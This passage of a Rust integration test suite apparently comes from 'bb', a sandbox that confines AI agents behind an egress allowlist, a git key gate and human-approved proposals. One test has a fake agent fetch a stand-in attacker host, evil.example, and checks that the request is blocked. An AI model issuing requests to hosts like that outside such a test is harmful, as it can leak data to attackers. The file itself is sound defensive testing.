            "  printf 'allowlist:\\n  - \"edited.example\"\\n' >> \"$1\"\n",
            "else\n",
            "  printf 'routes: [broken\\n' >> \"$1\"\n",
            "fi\n",
        ),
    )
    .unwrap();
    bb.keys("fetch http://edited.example/\r");
    bb.wait_text("host edited.example is not in this bottle's egress allowlist");
    bb.prefix("e");
    bb.wait_text("updated and reloaded");
    bb.keys("fetch http://edited.example/\r");
    bb.wait_text("edited.example does not resolve");

    // The network view: the refusal is there, with its rule and reason;
    // `a` proposes allowing the host, approved as any proposal, and the
    // agent's retry passes.
    bb.keys("fetch http://netview.example/x\r");
    bb.wait_text("host netview.example is not in this bottle");
    bb.prefix("t");
    bb.wait_text("Network · faker");
    bb.wait_for("the refusal in the network view", |s| {
        s.contains("netview.example/x  [host-not-allowed] no route allows this host")
    });
    bb.keys("b");
    bb.wait_text("refused only");
    bb.keys("a");
    bb.wait_text("Proposal from faker");
    // The diff is against the live routes, read from the bundle.
    bb.wait_text("+ - host: netview.example");
    bb.keys("a");
    bb.wait_text("approved: faker");
    bb.keys("fetch http://netview.example/x\r");
    bb.wait_text("netview.example does not resolve");

    let slug = env.slugs().pop().unwrap();
    let decisions = bundle_file(&slug, "/var/lib/bb/decisions.jsonl");
    assert!(decisions.contains("\"decision\":\"edited\""), "{decisions}");
    assert!(
        decisions.contains("\"decision\":\"approved\"") && decisions.contains("need-packages"),
        "{decisions}"
    );
    let live = bundle_file(&slug, "/etc/bb/egress.json");
    assert!(live.contains("pypi.example"));

    bb.prefix("x");
    bb.wait_text("Stop faker");
    bb.keys("y");
    bb.wait_text(&format!("stopped {slug}"));
    bb.prefix("d");
    bb.wait_exit();
    assert_eq!(left_behind(&slug), "");
}

/// After bb is restarted, an approval still shows the change against the
/// bottle's live routes (as egress reads them), with the other routes as
/// context, and a request for every path of a path-limited host says it
/// widens that host. Once allowed, a host that does not resolve answers
/// as the gateway error it is: the agent is not shown blocked.
#[test]
fn an_approval_after_a_restart_shows_the_live_routes_and_a_widening() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    let bottle = env.home().join("bottles/fake.md");
    let text = std::fs::read_to_string(&bottle).unwrap().replace(
        "  allowlist: [example.com]",
        "    - host: paths.example.com\n      path_allowlist: [/v1/]\n  allowlist: [example.com]",
    );
    std::fs::write(&bottle, text).unwrap();
    let envs = env.envs();
    let pairs: Vec<(&str, &str)> = envs.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let mut bb = env.workspace_with_agent(40, 140);
    bb.keys("fetch http://paths.example.com/v2/models\r");
    bb.wait_text("path /v2/models is not allowed");
    // The agent asks for the host (every path), and bb is restarted
    // before anyone decides.
    bb.keys("ask paths.example.com needs-the-v2-api\r");
    bb.wait_text("faker: egress paths.example.com");
    bb.prefix("d");
    bb.wait_exit();
    let mut bb = Bb::spawn(&[], &pairs, &env.project(), 40, 140);
    bb.wait_text("faker: egress paths.example.com");
    bb.prefix("p");
    let screen = bb.wait_text("! widens paths.example.com: from /v1/ to every path");
    for context in [
        "  - host: api.example.com",
        "  - host: example.com",
        "-   path_allowlist: [/v1/]",
    ] {
        assert!(screen.contains(context), "{context:?} in:\n{screen}");
    }
    assert!(
        !screen.contains("+ - host: paths.example.com"),
        "not shown as a new host:\n{screen}"
    );
    bb.keys("a");
    bb.wait_text("approved: faker");
    let slug = env.slugs().pop().unwrap();
    let live: serde_json::Value =
        serde_json::from_str(&bundle_file(&slug, "/etc/bb/egress.json")).unwrap();
    let route = live["routes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["host"] == "paths.example.com")
        .unwrap();
    assert_eq!(route["path_allowlist"], serde_json::json!([]), "{live}");
    // Allowed now, and nothing resolves here: a 502 that says so. (The
    // session is attached again first: its screen comes back.)
    bb.keys("\r");
    bb.wait_text("ask: Approved");
    bb.keys("clear\r");
    bb.keys("fetch http://paths.example.com/v2/models\r");
    let screen = bb.wait_text("paths.example.com does not resolve");
    assert!(screen.contains("HTTP/1.1 502"), "{screen}");
    // Quiet with that on its screen, it is not shown blocked.
    std::thread::sleep(std::time::Duration::from_secs(3));
    let screen = bb.screen();
    assert!(!screen.contains("faker · blocked"), "{screen}");
    let audit = bundle_file(&slug, "/var/lib/bb/audit.jsonl");
    let last = audit.lines().last().unwrap();
    assert!(
        last.contains("\"decision\":\"failed\"") && last.contains("upstream-dns"),
        "{last}"
    );
    bb.prefix("x");
    bb.wait_text("Stop faker");
    bb.keys("y");
    bb.wait_text(&format!("stopped {slug}"));
    bb.prefix("d");
    bb.wait_exit();
    assert_eq!(left_behind(&slug), "");
}

#[test]
fn git_goes_through_the_gate_which_holds_the_key() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    let key = env.dir.path().join("id_gate");
    std::fs::write(
        &key,
        "-----BEGIN OPENSSH PRIVATE KEY-----\nnot-a-real-key\n-----END OPENSSH PRIVATE KEY-----\n",
    )
    .unwrap();
    let bottle = std::fs::read_to_string(env.home().join("bottles/fake.md")).unwrap();
    let with_git = bottle.replacen(
        "---\n",
        &format!(
            "---\ngit:\n  user: {{name: Fake Agent, email: fake@bottle.example}}\n  remotes:\n    git.example:\n      Upstream: ssh://git@git.example:2222/me/app.git\n      IdentityFile: {}\n      KnownHostKey: ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleOnly\n      ExtraHosts: {{git.example: 192.0.2.10}}\n",
            key.display()
        ),
        1,
    );
    std::fs::write(env.home().join("bottles/fake.md"), with_git).unwrap();
    let slug = env.start();
    let agent = format!("bb-{slug}");
    let bundle = format!("bb-sidecars-{slug}");

    let ls = String::from_utf8_lossy(&env.bb(&["ls"]).stdout).into_owned();
    assert!(ls.contains("egress,git-gate,supervise"), "{ls}");
    // The agent's git is rewritten to the gate and knows its identity.
    let gitconfig = docker(&["exec", &agent, "cat", "/home/node/.gitconfig"]);
    assert!(
        gitconfig.contains("[url \"http://sidecars:9420/app.git\"]")
            && gitconfig.contains("name = \"Fake Agent\""),
        "{gitconfig}"
    );
    // The key is the gate's alone.
    assert!(!docker(&["exec", &agent, "env"]).contains("OPENSSH"));
    assert!(docker(&["exec", &bundle, "cat", "/etc/hosts"]).contains("192.0.2.10\tgit.example"));
    // Upstream cannot be reached from here, so the gate serves nothing.
    let clone = docker(&[
        "exec",
        &agent,
        "sh",
        "-c",
        "cd /tmp && git clone ssh://git@git.example:2222/me/app.git 2>&1; true",
    ]);
    assert!(
        clone
            .contains("bb git-gate: upstream ssh://git@git.example:2222/me/app.git is unreachable"),
        "{clone}"
    );

    let o = env.bb(&["stop", &slug]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(left_behind(&slug), "");
}

#[test]
fn a_capability_change_rebuilds_the_agent_and_keeps_its_work() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    let mut bb = env.workspace_with_agent(40, 160);
    bb.keys("remember this\r");
    bb.wait_text("you said: remember this");
    bb.keys("need RUN touch /usr/local/bin/bb-capability-marker\r");
    bb.wait_text("faker: capability");
    bb.prefix("p");
    bb.wait_text("Proposal from faker");
    assert!(
        bb.screen()
            .contains("RUN touch /usr/local/bin/bb-capability-marker"),
        "the change is shown"
    );
    bb.keys("a");
    // The container is rebuilt and its agent continues the conversation
    // (the status line says so only until the agent is back).
    bb.wait_text("fake-agent ready (resumed)");
    let slug = env.slugs().pop().unwrap();
    let agent = format!("bb-{slug}");
    assert_eq!(
        docker(&[
            "exec",
            &agent,
            "sh",
            "-c",
            "test -f /usr/local/bin/bb-capability-marker && echo yes"
        ]),
        "yes"
    );
    assert_eq!(
        docker(&["exec", &agent, "cat", "/home/node/workspace/src/lib.rs"]),
        "// the user's code",
        "the workspace came along"
    );
    assert!(docker(&[
        "exec",
        &agent,
        "cat",
        "/home/node/.claude/projects/fake-agent/history.jsonl"
    ])
    .contains("remember this"));
    // Still isolated and still trusting the bottle CA.
    let nets = docker(&[
        "inspect",
        "-f",
        "{{range $k, $v := .NetworkSettings.Networks}}{{$k}} {{end}}",
        &agent,
    ]);
    assert_eq!(nets, format!("bb-{slug}-internal"));
    bb.keys("fetch http://evil.example/\r");
    bb.wait_text("bb egress blocked this request: host evil.example");

    bb.prefix("x");
    bb.wait_text("Stop faker");
    bb.keys("y");
    bb.wait_text(&format!("stopped {slug}"));
    bb.prefix("d");
    bb.wait_exit();
    assert_eq!(left_behind(&slug), "");
    assert_eq!(
        docker(&["images", "-q", &format!("bb-agent-{slug}")]),
        "",
        "the bottle's own image went with it"
    );
}

#[test]
fn discovery_wakes_on_a_bottle_containers_event_not_on_a_clock() {
    if !docker_ok() {
        return;
    }
    let engine = bollard::Docker::connect_with_local_defaults().unwrap();
    let rt = tokio::runtime::Runtime::new().unwrap();
    let name = format!("bb-events-probe-{}", std::process::id());
    // Before the wait: an event between a list and the wait is not missed.
    let since = std::time::SystemTime::now();
    docker(&[
        "run",
        "--rm",
        "--label",
        &format!("bb.slug={name}"),
        "--name",
        &name,
        support::docker::BASE,
        "true",
    ]);
    let woke = rt.block_on(bb::backend::docker::inventory::changed(&engine, since));
    assert!(woke, "a bottle container's start and exit are events");
    assert_eq!(
        docker(&["ps", "-aq", "--filter", &format!("name={name}")]),
        ""
    );
}

/// A container killed from outside wakes discovery once it is dead: the
/// kill event comes before the container exits, and a list read between
/// them showed a killed bundle up until the next event or poll (30 s).
#[test]
fn discovery_wakes_after_a_kill_has_taken_effect() {
    // Alone: another test's `bb cleanup` would take its probes for orphans.
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let engine = bollard::Docker::connect_with_local_defaults().unwrap();
    let rt = tokio::runtime::Runtime::new().unwrap();
    // The race is narrow (the engine's state flips a moment after its
    // event): tried several times, so a regression shows.
    for round in 0..8 {
        let name = format!("bb-events-kill-{}-{round}", std::process::id());
        docker(&[
            "run",
            "-d",
            "--label",
            &format!("bb.slug={name}"),
            "--label",
            "bb.home=/nonexistent/bb-events-probe",
            "--name",
            &name,
            support::docker::BASE,
            "sleep",
            "600",
        ]);
        // The start's own events (some stamped after `docker run` returns)
        // are past before the wait begins: what wakes it is the kill.
        std::thread::sleep(std::time::Duration::from_millis(500));
        let since = std::time::SystemTime::now();
        let killer = {
            let name = name.clone();
            std::thread::spawn(move || {
                std::thread::sleep(std::time::Duration::from_millis(300));
                docker(&["kill", &name]);
            })
        };
        // Read at once, as discovery lists at once.
        let (woke, running) = rt.block_on(async {
            let woke = bb::backend::docker::inventory::changed(&engine, since).await;
            let info = engine
                .inspect_container(
                    &name,
                    None::<bollard::query_parameters::InspectContainerOptions>,
                )
                .await
                .unwrap();
            (woke, info.state.and_then(|s| s.running).unwrap_or(true))
        });
        killer.join().unwrap();
        docker(&["rm", "-f", &name]);
        assert!(woke);
        assert!(
            !running,
            "round {round}: woken while the killed container still ran"
        );
    }
}

/// A bottle stopped from another shell leaves the workspace: its row goes
/// once the engine no longer lists it, with no offer that does nothing.
#[test]
fn a_bottle_stopped_elsewhere_leaves_the_workspace() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    let mut bb = env.workspace_with_agent(40, 160);
    let slug = env.slugs().pop().unwrap();
    let stopped = env.bb(&["stop", &slug]);
    assert!(
        stopped.status.success(),
        "{}",
        String::from_utf8_lossy(&stopped.stderr)
    );
    bb.wait_text("No agent is running here yet.");
    assert!(!bb.screen().contains("unreachable"), "{}", bb.screen());
    bb.prefix("d");
    bb.wait_exit();
    assert_eq!(left_behind(&slug), "");
}
